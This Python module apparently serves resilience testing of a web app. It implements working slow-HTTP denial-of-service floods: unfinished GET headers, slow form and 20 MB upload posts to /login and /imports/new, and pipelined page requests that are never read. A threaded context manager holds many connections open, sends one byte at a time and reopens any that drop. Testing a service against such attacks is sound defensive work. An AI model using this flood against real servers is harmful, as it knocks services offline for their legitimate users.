"""Floods of connections that begin a request and never come to its end."""

import socket
import threading
from collections.abc import Callable, Iterator
from contextlib import ExitStack, contextmanager
from typing import Protocol
from urllib.parse import urlsplit


class Sender(Protocol):
    """Whose address and cookies a request carries."""

    @property
    def netloc(self) -> str: ...

    @property
    def cookie_header(self) -> str: ...


Head = Callable[[Sender], bytes]


def unfinished_head(desk: Sender) -> bytes:
    return f"GET /students HTTP/1.1\r\nHost: {desk.netloc}\r\nX-Slow: ".encode()


def slow_form(desk: Sender) -> bytes:
    """Announce a small form: of a stranger, at the page for signing in."""
    kind = "Content-Type: application/x-www-form-urlencoded\r\nContent-Length: 5000"
    return f"POST /login HTTP/1.1\r\nHost: {desk.netloc}\r\n{kind}\r\n\r\nemail=".encode()


def slow_upload(desk: Sender) -> bytes:
    """Announce a sheet of 20 MB, in the name of somebody who may upload."""
    kind = "Content-Type: multipart/form-data; boundary=x\r\nContent-Length: 20000000"
    return f"POST /imports/new HTTP/1.1\r\nHost: {desk.netloc}\r\nCookie: {desk.cookie_header}\r\n{kind}\r\n\r\n--x".encode()


def untaken_pages(desk: Sender) -> bytes:
    """Ask for more pages of the list than fit on the way, of which none is ever taken."""
    ask = f"GET /students?per_page=500 HTTP/1.1\r\nHost: {desk.netloc}\r\nCookie: {desk.cookie_header}\r\n"
    return (f"{ask}\r\n" * 40 + f"{ask}X-Slow: ").encode()


@contextmanager
def flood(url: str, head: bytes, connections: int, every_s: float) -> Iterator[None]:
    """Hold so many connections that begin with this and go on a byte at a time; whoever is cut off comes again."""
    over = threading.Event()
    address = (urlsplit(url).hostname or "", urlsplit(url).port or 80)
    thread = threading.Thread(target=_trickle, args=(address, head, connections, every_s, over))
    thread.start()
    try:
        yield
    finally:
        over.set()
        thread.join()


def _trickle(address: tuple[str, int], head: bytes, connections: int, every_s: float, over: threading.Event) -> None:
    with ExitStack() as stack:
        lines = [stack.enter_context(_begin(address, head)) for _ in range(connections)]
        while not over.wait(every_s):
            for place, line in enumerate(lines):
                try:
                    line.send(b"x")
                except OSError:
                    line.close()
                    lines[place] = stack.enter_context(_begin(address, head))


def _begin(address: tuple[str, int], head: bytes) -> socket.socket:
    line = socket.socket()
    line.settimeout(1)
    try:
        line.connect(address)
        line.send(head)
    except OSError:
        pass  # it is kept out, which is what it wants for others
    return line
